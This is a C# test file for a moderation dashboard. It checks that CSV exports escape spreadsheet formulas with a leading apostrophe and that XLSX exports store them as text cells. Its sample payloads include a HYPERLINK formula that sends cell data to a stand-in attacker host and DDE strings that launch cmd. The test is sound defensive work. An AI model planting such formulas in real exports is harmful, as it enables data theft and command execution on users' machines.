using System.Globalization;
using CsvHelper;
using CsvHelper.Configuration;
using ModScope.Ingest;
using ModScope.Store;
using ModScope.Synthetic;
using ModScope.Tests.Support;

namespace ModScope.Web.Tests;

/// <summary>
/// A CSV export never hands a spreadsheet a formula: text cells that start with =, +, -, @ (OWASP's CSV injection list)
/// are written with a leading apostrophe; numbers stay numbers, negative ones included. The data: two generated days
/// whose second day's first human decisions name moderators that look like formulas. The XLSX export writes them as text
/// cells, which spreadsheets never evaluate.
/// </summary>
public sealed class CsvExportTests : IAsyncLifetime
{
    private static readonly string[] Poison = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"];

    private readonly TempFolder _folder = new("modscope-web-csv-");
    private DashboardFactory? _factory;

    public async Task InitializeAsync()
    {
        var data = _folder.Sub("data");
        await SyntheticGenerator.GenerateAsync(new GeneratorOptions(data, Days: 2, DecisionsPerDay: 400, Seed: 5, Incidents: false));
        Poisoned(Directory.GetFiles(data, "decisions-*.csv").Order(StringComparer.Ordinal).Last());
        var path = _folder.Sub("store.duckdb");
        using (var store = ModScopeStore.Open(path))
        {
            await new Ingestor(store).IngestAsync([data], new IngestOptions());
        }
        _factory = new DashboardFactory(new DashboardOptions(path));
    }

    [Fact]
    public async Task Formula_looking_text_is_escaped_and_numbers_are_not()
    {
        using var client = _factory!.CreateClient();
        // The second day, against the first: moderators on both days have changes, some negative.
        var day = GeneratorOptions.DefaultStart.AddDays(1).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

        var csv = await client.GetStringAsync($"/api/export.csv?metric=decision_volume&by=moderator&period={day}&compare=previous");

        var rows = Parse(csv);
        var moderators = rows.Select(r => r["moderator"]).ToList();
        foreach (var poison in Poison)
        {
            Assert.Contains("'" + poison, moderators);
            Assert.DoesNotContain(poison, moderators);
        }
        Assert.All(rows.SelectMany(r => r.Values), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal)
            && !double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"unescaped cell {cell}"));
        Assert.All(rows, r => Assert.True(double.TryParse(r["value"], NumberStyles.Float, CultureInfo.InvariantCulture, out _), r["value"]));
        Assert.Contains(rows, r => r["relative_change"].StartsWith('-'));
    }

    [Fact]
    public async Task The_xlsx_export_holds_the_same_text_as_text_cells_never_formulas()
    {
        using var client = _factory!.CreateClient();
        var day = GeneratorOptions.DefaultStart.AddDays(1).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

        var bytes = await client.GetByteArrayAsync($"/api/export.xlsx?metric=decision_volume&by=moderator&period={day}");

        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(bytes));
        var xml = string.Join("\n", zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal))
            .Select(e => new StreamReader(e.Open()).ReadToEnd()));
        Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
        Assert.Contains(System.Security.SecurityElement.Escape(Poison[2]), xml, StringComparison.Ordinal);
    }

    private static List<Dictionary<string, string>> Parse(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), new CsvConfiguration(CultureInfo.InvariantCulture));
        reader.Read();
        reader.ReadHeader();
        var header = reader.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(header.ToDictionary(h => h, h => reader.GetField(h) ?? "", StringComparer.Ordinal));
        }
        return rows;
    }

    /// <summary>Gives the first human decisions of the file the poisoned moderator ids.</summary>
    private static void Poisoned(string file)
    {
        var lines = File.ReadAllLines(file);
        var header = lines[0].Split(',');
        var moderator = Array.IndexOf(header, "moderator_id");
        var decidedBy = Array.IndexOf(header, "decided_by");
        var next = 0;
        for (var i = 1; i < lines.Length && next < Poison.Length; i++)
        {
            var fields = lines[i].Split(',');
            if (fields.Length == header.Length && fields[decidedBy] == "human")
            {
                fields[moderator] = Quote(Poison[next++]);
                lines[i] = string.Join(',', fields);
            }
        }
        File.WriteAllLines(file, lines);
    }

    private static string Quote(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    public Task DisposeAsync()
    {
        _factory?.Dispose();
        _folder.Dispose();
        return Task.CompletedTask;
    }
}
